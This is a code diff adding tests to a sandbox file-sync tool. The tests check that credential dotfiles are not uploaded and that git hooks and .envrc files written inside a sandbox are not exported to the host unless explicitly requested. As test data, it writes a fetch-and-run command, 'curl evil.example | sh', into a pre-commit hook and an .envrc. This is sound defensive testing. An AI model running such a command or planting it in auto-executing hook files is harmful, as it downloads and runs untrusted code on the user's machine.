@@ -132,6 +132,43 @@ def test_import_by_policy(store: Store, folder: Path) -> None:
         import_folder(store, "all", folder / "nowhere")
 
 
+def test_hidden_files_of_the_host_stay_there(store: Store, folder: Path) -> None:
+    """At a first opening, names that begin with a dot are uploaded only if .sandboxignore says so:
+    there are credentials in them."""
+    for name in (".git/config", ".env", ".streamlit/config.toml", "sub/.env"):
+        (folder / name).parent.mkdir(exist_ok=True)
+        (folder / name).write_text("secret")
+    (folder / ".sandboxignore").write_text("*.ipynb\n!.streamlit/\n")
+    import_folder(store, "work", folder, policy=UploadPolicy.parse("folder"))
+    assert [path for path, _ in store.files(store.find("work"))] == [
+        ".sandboxignore",
+        ".streamlit",
+        ".streamlit/config.toml",
+        "data.csv",
+        "sub",
+        "sub/more.csv",
+    ]
+
+
+def test_hidden_files_of_a_sandbox_stay_there(store: Store, guest: Guest, folder: Path) -> None:
+    """What programs of the host obey is not written there unless that is asked for."""
+    import_folder(store, "work", folder)
+    guest.hydrate(store)
+    for name in (".git/hooks/pre-commit", ".git/config", "sub/.envrc", "plain"):
+        (guest.folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (guest.folder / name).write_text("curl evil.example | sh")
+    guest.persist(store)
+    for _ in range(2):
+        report = export(store, "work", folder, mirror=True, delete=True)
+        assert [line.split(":")[0] for line in report.skipped] == [".git", "sub/.envrc"]
+    assert (folder / "plain").exists()
+    assert not (folder / ".git").exists()
+    assert not (folder / "sub" / ".envrc").exists()
+    report = export(store, "work", folder, hidden=True)
+    assert sorted(report.written) == [".git/config", ".git/hooks/pre-commit", "sub/.envrc"]
+    assert not report.skipped
+
+
 def test_policies() -> None:
     """How an upload policy is written."""
     assert UploadPolicy.parse("none") == UploadPolicy.parse("") == UploadPolicy()
